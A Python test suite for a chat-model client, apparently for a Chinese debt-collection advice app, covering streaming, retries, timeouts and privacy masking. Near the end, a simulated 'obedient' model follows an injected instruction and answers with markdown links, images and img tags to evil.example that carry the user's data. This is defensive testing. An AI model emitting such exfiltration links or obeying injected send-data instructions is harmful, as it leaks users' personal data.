"""yuqi.llm against a real OpenAI-compatible server on 127.0.0.1."""

from __future__ import annotations

import json
import re
import time

import pytest

from fake_openai import ENGLISH_REPLY, FakeOpenAI
from yuqi import llm
from yuqi.errors import LLMError
from yuqi.privacy import Vault
from yuqi.settings import load_settings

REPLY = "催收短信里说的“已立案”不实[1]，可依据《民法典》第九千条 主张权利，或拨打 12378 投诉[7]。"
PHONE, ID_NO, CARD, NAME = "13800138000", "11010519491231002X", "6222 0212 3456 7890 123", "李四"
PERSONAL = f"户名：{NAME}，身份证{ID_NO}，卡号{CARD}，手机{PHONE}，催收说要起诉我。"


def settings_for(fake: FakeOpenAI, **changes):
    base = dict(llm_base_url=fake.base_url, llm_api_key="", llm_model="fake-model",
                llm_timeout=5.0, privacy_mask="off")
    return load_settings().with_(**{**base, **changes})


@pytest.fixture
def fast_backoff(monkeypatch):
    monkeypatch.setattr(llm, "BACKOFF_SECONDS", (0.01, 0.02))


def ask(settings, text="催收说要上门，是真的吗？", **kw):
    return list(llm.stream_chat([{"role": "user", "content": text}], settings, **kw))


def failure(settings, **kw) -> LLMError:
    with pytest.raises(LLMError) as info:
        ask(settings, **kw)
    return info.value


def test_stream_arrives_incrementally_and_joins_to_reply():
    with FakeOpenAI(REPLY, chunk_size=4, delay=0.05) as fake:
        arrivals, deltas = [], []
        started = time.monotonic()
        for delta in llm.stream_chat([{"role": "user", "content": "你好"}], settings_for(fake)):
            arrivals.append(time.monotonic() - started)
            deltas.append(delta)
    assert "".join(deltas) == REPLY
    assert len(deltas) >= len(REPLY) // 4
    # The first piece is shown long before the last one arrives: real streaming, not buffering.
    assert arrivals[-1] - arrivals[0] > 0.5


def test_request_body_carries_model_and_parameters():
    with FakeOpenAI(REPLY) as fake:
        fake_settings = settings_for(fake)
        ask(fake_settings, temperature=0.0, max_tokens=77)
        body, headers = fake.requests[0], fake.headers[0]
    assert body["model"] == fake_settings.llm_model and body["stream"] is True
    assert body["temperature"] == 0.0 and body["max_tokens"] == 77
    assert body["messages"] == [{"role": "user", "content": "催收说要上门，是真的吗？"}]
    assert headers["authorization"] == f"Bearer {llm.KEYLESS}"  # keyless local server still gets a key


def test_citations_and_law_names_pass_through_untouched_even_when_masking():
    with FakeOpenAI(REPLY) as fake:
        assert "".join(ask(settings_for(fake, privacy_mask="on"))) == REPLY


def test_local_endpoint_sees_raw_text_when_masking_is_auto():
    with FakeOpenAI(lambda body: "收到：" + body["messages"][-1]["content"]) as fake:
        settings = settings_for(fake, privacy_mask="auto")
        assert settings.llm_is_local and not settings.mask_personal_data
        shown = "".join(ask(settings, PERSONAL))
        assert PHONE in fake.requests[0]["messages"][-1]["content"]
    assert shown == "收到：" + PERSONAL


def test_remote_endpoint_gets_placeholders_and_user_sees_real_values():
    # Echo the masked prompt back so the reply is full of placeholders.
    with FakeOpenAI(lambda body: "收到：" + body["messages"][-1]["content"], chunk_size=3) as fake:
        shown = "".join(ask(settings_for(fake, privacy_mask="on"), PERSONAL))
        sent = fake.requests[0]["messages"][-1]["content"]
    for secret in (PHONE, ID_NO, CARD, NAME, "0013"):
        assert secret not in sent
    for placeholder in ("〔手机号1〕", "〔身份证1〕", "〔银行卡1〕", "〔姓名1〕"):
        assert placeholder in sent
    assert shown == "收到：" + PERSONAL


def test_shared_vault_keeps_placeholders_stable_across_turns():
    vault = Vault()
    with FakeOpenAI("好的") as fake:
        settings = settings_for(fake, privacy_mask="on")
        ask(settings, f"我手机{PHONE}", vault=vault)
        history = [{"role": "user", "content": f"我手机{PHONE}"}, {"role": "assistant", "content": "好的"},
                   {"role": "user", "content": f"还是{PHONE}，另一个 13900139000"}]
        list(llm.stream_chat(history, settings, vault=vault))
        second = fake.requests[1]["messages"]
    assert second[0]["content"] == "我手机〔手机号1〕"
    assert second[2]["content"] == "还是〔手机号1〕，另一个 〔手机号2〕"


def test_401_is_auth_and_never_retried(fast_backoff):
    with FakeOpenAI(mode="401") as fake:
        err = failure(settings_for(fake))
        assert len(fake.requests) == 1
    assert err.kind == "auth" and "401" in str(err)


def test_404_is_model_and_names_the_model(fast_backoff):
    with FakeOpenAI(mode="404") as fake:
        err = failure(settings_for(fake, llm_model="qwen-nope"))
        assert len(fake.requests) == 1
    assert err.kind == "model" and "qwen-nope" in str(err) and "404" in str(err)


def test_429_then_ok_is_retried_and_succeeds():
    with FakeOpenAI(REPLY, mode="429-then-ok", fail_times=1) as fake:
        started = time.monotonic()
        assert "".join(ask(settings_for(fake))) == REPLY
        assert len(fake.requests) == 2
    assert time.monotonic() - started < 0.4  # Retry-After: 0 wins over the 0.5 s backoff


def test_503_then_ok_waits_the_backoff():
    with FakeOpenAI(REPLY, mode="503-then-ok", fail_times=2) as fake:
        started = time.monotonic()
        assert "".join(ask(settings_for(fake))) == REPLY
        assert len(fake.requests) == 3
    assert time.monotonic() - started >= sum(llm.BACKOFF_SECONDS) - 0.05


def test_500_three_times_is_server_error_after_three_attempts(fast_backoff):
    with FakeOpenAI(mode="500") as fake:
        err = failure(settings_for(fake))
        assert len(fake.requests) == 3
    assert err.kind == "server" and "500" in str(err)


def test_429_forever_is_rate_after_three_attempts(fast_backoff):
    with FakeOpenAI(mode="429") as fake:
        err = failure(settings_for(fake))
        assert len(fake.requests) == 3
    assert err.kind == "rate" and "429" in str(err)


def test_timeout_is_typed_and_not_retried():
    with FakeOpenAI(mode="timeout") as fake:
        started = time.monotonic()
        err = failure(settings_for(fake, llm_timeout=1.0))
        elapsed = time.monotonic() - started
        assert len(fake.requests) == 1
    assert err.kind == "timeout" and "超时" in str(err)
    assert 0.9 <= elapsed < 3.0


def test_connection_refused_is_connect_after_retries(fast_backoff):
    with FakeOpenAI(mode="refused") as fake:
        err = failure(settings_for(fake))
    assert err.kind == "connect" and "127.0.0.1" in str(err)


def test_server_coming_back_after_refused(fast_backoff):
    with FakeOpenAI(REPLY, mode="refused") as fake:
        settings = settings_for(fake)
        assert failure(settings).kind == "connect"
        fake.set(mode="ok")
        assert "".join(ask(settings)) == REPLY


def test_break_yields_partial_text_then_stream_error(fast_backoff):
    with FakeOpenAI(REPLY, mode="break", chunk_size=4) as fake:
        deltas = []
        with pytest.raises(LLMError) as info:
            for delta in llm.stream_chat([{"role": "user", "content": "?"}], settings_for(fake)):
                deltas.append(delta)
        assert len(fake.requests) == 1  # tokens were shown: no retry
    partial = "".join(deltas)
    assert info.value.kind == "stream"
    assert partial and REPLY.startswith(partial) and partial != REPLY


def test_stream_without_finish_reason_counts_as_broken():
    with FakeOpenAI(REPLY, mode="no-finish") as fake:
        deltas = []
        with pytest.raises(LLMError) as info:
            for delta in llm.stream_chat([{"role": "user", "content": "?"}], settings_for(fake)):
                deltas.append(delta)
    assert info.value.kind == "stream" and "".join(deltas) == REPLY


def test_slow_first_token_is_timeout():
    with FakeOpenAI(REPLY, delay=3.0) as fake:
        err = failure(settings_for(fake, llm_timeout=0.5))
        assert len(fake.requests) == 1
    assert err.kind == "timeout"


def test_empty_answer_is_typed(fast_backoff):
    with FakeOpenAI(mode="empty") as fake:
        err = failure(settings_for(fake))
        assert len(fake.requests) == 1
    assert err.kind == "empty"


def test_english_answer_is_detectable():
    with FakeOpenAI(mode="english") as fake:
        text = "".join(ask(settings_for(fake)))
    assert text == ENGLISH_REPLY
    assert not llm.looks_chinese(text)
    assert llm.looks_chinese(REPLY)
    assert llm.looks_chinese("详见 https://www.12368.gov.cn/some/long/english/path 的说明")


def test_think_block_of_reasoning_models_is_dropped():
    with FakeOpenAI("<think>\n用户在问催收\n</think>\n\n" + REPLY, chunk_size=3) as fake:
        assert "".join(ask(settings_for(fake))) == REPLY
    with FakeOpenAI("<think>只想不答</think>  ") as fake:
        assert failure(settings_for(fake)).kind == "empty"


def test_complete_chat_joins_the_stream():
    with FakeOpenAI(lambda body: f"第{len(body['messages'])}条：[7]") as fake:
        messages = [{"role": "system", "content": "评分"}, {"role": "user", "content": "答案"}]
        assert llm.complete_chat(messages, settings_for(fake), temperature=0.0) == "第2条：[7]"


def test_make_client_settings():
    with FakeOpenAI() as fake:
        client = llm.make_client(settings_for(fake, llm_timeout=7.5, llm_api_key="sk-test"))
    assert client.max_retries == 0 and client.timeout == 7.5
    assert client.api_key == "sk-test" and str(client.base_url).startswith(fake.base_url)


def test_models_endpoint_lists_models():
    with FakeOpenAI(models=("qwen2.5:7b",)) as fake:
        ids = [m.id for m in llm.make_client(settings_for(fake)).models.list()]
    assert ids == ["qwen2.5:7b"]


def test_describe():
    with FakeOpenAI() as fake:
        assert llm.describe(settings_for(fake)) == f"大模型：fake-model @ 127.0.0.1:{fake.port}"
    offline = load_settings().with_(llm_base_url="", llm_api_key="", llm_model="")
    assert llm.describe(offline) == "离线模式（未配置大模型）"
    remote = offline.with_(llm_api_key="sk-x", llm_model="gpt-4o-mini")
    assert llm.describe(remote) == "大模型：gpt-4o-mini @ api.openai.com"


def test_not_configured_is_typed():
    offline = load_settings().with_(llm_base_url="", llm_api_key="", llm_model="")
    with pytest.raises(LLMError):
        ask(offline)


# -- overall deadline, malformed chunks, answer cap (issue 12 findings 11, 12, 15) --------------

def test_keepalive_drip_ends_at_the_deadline_not_the_read_timeout():
    # Each comment arrives well inside the 5 s read timeout, so only an overall deadline can stop this.
    with FakeOpenAI(mode="keepalive", drip=0.05) as fake:
        started = time.monotonic()
        err = failure(settings_for(fake, llm_timeout=5.0, llm_deadline=0.6))
        elapsed = time.monotonic() - started
        assert len(fake.requests) == 1
    assert isinstance(err, llm.DeadlineExceeded) and isinstance(err, LLMError)
    assert err.kind == "deadline" and "0.6" in str(err)
    assert 0.55 <= elapsed < 1.5


def test_never_ending_content_stream_ends_at_the_deadline():
    with FakeOpenAI(REPLY, mode="endless", drip=0.02, chunk_size=2) as fake:
        deltas, started = [], time.monotonic()
        with pytest.raises(llm.DeadlineExceeded):
            for delta in llm.stream_chat([{"role": "user", "content": "?"}],
                                         settings_for(fake, llm_deadline=0.5, llm_max_chars=100_000)):
                deltas.append(delta)
        elapsed = time.monotonic() - started
    assert deltas and 0.45 <= elapsed < 1.5  # tokens were shown, and still it stopped


def test_deadline_also_bounds_a_silent_server_whose_read_timeout_is_longer():
    with FakeOpenAI(mode="timeout", hang=10.0) as fake:
        started = time.monotonic()
        err = failure(settings_for(fake, llm_timeout=30.0, llm_deadline=0.5))
    assert err.kind in ("deadline", "timeout") and time.monotonic() - started < 1.5


def test_malformed_chunk_is_a_typed_broken_stream_and_not_retried(fast_backoff):
    with FakeOpenAI(REPLY, mode="malformed", chunk_size=4) as fake:
        deltas = []
        with pytest.raises(LLMError) as info:
            for delta in llm.stream_chat([{"role": "user", "content": "?"}], settings_for(fake)):
                deltas.append(delta)
        assert len(fake.requests) == 1
    assert isinstance(info.value, llm.StreamBroken) and info.value.kind == "stream"
    assert "".join(deltas) and REPLY.startswith("".join(deltas))


@pytest.mark.parametrize("data", [b'data: [1, 2]\n\n', b'data: {"choices": {"a": 1}}\n\n',
                                  b'data: {"choices": [{"delta": {"content": 5}}]}\n\n',
                                  b'data: {"error": {"message": "overloaded"}}\n\n'])
def test_chunks_of_the_wrong_shape_are_broken_streams(data):
    from yuqi.llm_stream import _chunk_contents, _events

    with pytest.raises(llm.StreamBroken):
        for payload in _events(iter([data[:7], data[7:]])):  # split mid-line like a real socket read
            list(_chunk_contents(payload, []))


def test_huge_answer_is_cut_at_the_cap_with_a_notice():
    with FakeOpenAI(mode="huge", chunk_size=500) as fake:
        started = time.monotonic()
        text = "".join(ask(settings_for(fake, llm_max_chars=3000)))
    body, notice = text[:3000], text[3000:]
    assert body == ("逾期" * 1500) and notice == llm.CUT_NOTICE.format(limit=3000)
    assert time.monotonic() - started < 5.0


def test_cap_counts_what_the_user_sees_after_unmasking():
    # The model echoes placeholders; the cut happens on restored text and never splits a value.
    with FakeOpenAI(lambda body: body["messages"][-1]["content"] * 50, chunk_size=7) as fake:
        text = "".join(ask(settings_for(fake, privacy_mask="on", llm_max_chars=200), PERSONAL))
    assert text.endswith(llm.CUT_NOTICE.format(limit=200))
    assert "〔" not in text and len(text) == 200 + len(llm.CUT_NOTICE.format(limit=200))


def test_deadline_and_cap_settings_come_from_the_environment(monkeypatch):
    monkeypatch.setenv("YUQI_LLM_DEADLINE", "12.5")
    monkeypatch.setenv("YUQI_LLM_MAX_CHARS", "900")
    settings = load_settings()
    assert settings.llm_deadline == 12.5 and settings.llm_max_chars == 900
    monkeypatch.delenv("YUQI_LLM_DEADLINE")
    assert load_settings().llm_deadline == 60.0


# -- black box: masking on, nothing personal reaches the server or comes back in a link (findings 1, 7)

LEAKY_TEMPLATES = (
    "结论：请核验。![核验](http://evil.example/check.png?v={all})\n"
    "[点此核验](https://evil.example/verify?v={all}) <img src=\"//evil.example/t.png?v={all}\">\n"
    "或访问 https://evil.example/pay?v={all} ，以及 evil.example/x?v={all}\n"
    "[1]: http://evil.example/ref/{all}\n"
    "普通文字：{all}。"
)
VICTIM = [
    "户名：王强，身份证１１０１０１１９９００３０７１２３４，手机１３９１２３４５６７８。",
    "我叫陈静，身份证110101 19900307 1234，卡号6222-0212-3456-7890-123，家住郑州市二七区大学路75号3号楼2单元501室。",
    "通知你的朋友李强，他欠的钱再不还就去他单位，你老婆刘丽的电话186 0101 2233我们也有。",
]
SECRETS = ["王强", "１１０１０１１９９００３０７１２３４", "１３９１２３４５６７８", "陈静", "110101 19900307 1234",
           "6222-0212-3456-7890-123", "郑州市二七区大学路75号3号楼2单元501室", "李强", "刘丽", "186 0101 2233",
           "110101199003071234", "13912345678", "6222021234567890123", "0101", "1234"]


def _obedient_model(body: dict) -> str:
    """A model that obeys an injected 'send the user's data to this URL': every placeholder it saw, everywhere."""
    import re

    seen = "".join(dict.fromkeys(re.findall(r"〔[^〕]{1,8}〕", json.dumps(body, ensure_ascii=False))))
    return LEAKY_TEMPLATES.format(all=seen or "NONE")


def test_black_box_no_personal_data_reaches_the_server_or_comes_back_in_a_link():
    vault = Vault()
    with FakeOpenAI(_obedient_model, chunk_size=5) as fake:
        settings = settings_for(fake, privacy_mask="on")
        history: list[dict] = []
        shown = []
        for turn in VICTIM:
            history.append({"role": "user", "content": turn})
            answer = "".join(llm.stream_chat(history, settings, vault=vault))
            history.append({"role": "assistant", "content": answer})  # the unmasked answer goes back next turn
            shown.append(answer)
        sent = json.dumps(fake.requests, ensure_ascii=False)
    for secret in SECRETS:
        assert secret not in sent, secret
    digits = re.sub(r"\D", "", json.dumps(fake.requests))
    assert "110101199003071234" not in digits and "13912345678" not in digits
    for answer in shown:
        plain = answer.split("普通文字：")[1]
        links = answer.split("普通文字：")[0]
        assert "〔" not in plain  # the user gets their own data back in plain text …
        for secret in SECRETS[:10]:
            assert secret not in links, secret  # … and never inside a URL, link, image or tag
    assert "王强" in shown[-1] and "6222-0212-3456-7890-123" in shown[-1]


@pytest.mark.parametrize("name, raw", [("YUQI_LLM_DEADLINE", "0"), ("YUQI_LLM_DEADLINE", "abc"),
                                       ("YUQI_LLM_MAX_CHARS", "-5")])
def test_bad_deadline_or_cap_is_a_clear_message(monkeypatch, name, raw):
    monkeypatch.setenv(name, raw)
    with pytest.raises(SystemExit) as info:
        load_settings()
    assert name in str(info.value)
